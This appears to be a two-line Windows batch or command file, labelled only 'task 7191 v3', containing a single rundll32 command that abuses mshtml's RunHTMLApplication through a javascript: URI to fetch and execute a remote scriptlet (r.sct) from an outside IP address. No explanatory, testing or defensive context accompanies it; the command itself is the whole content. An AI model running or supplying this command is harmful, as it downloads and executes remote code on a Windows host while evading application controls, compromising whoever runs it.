REM task 7191 v3
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.200/r.sct")
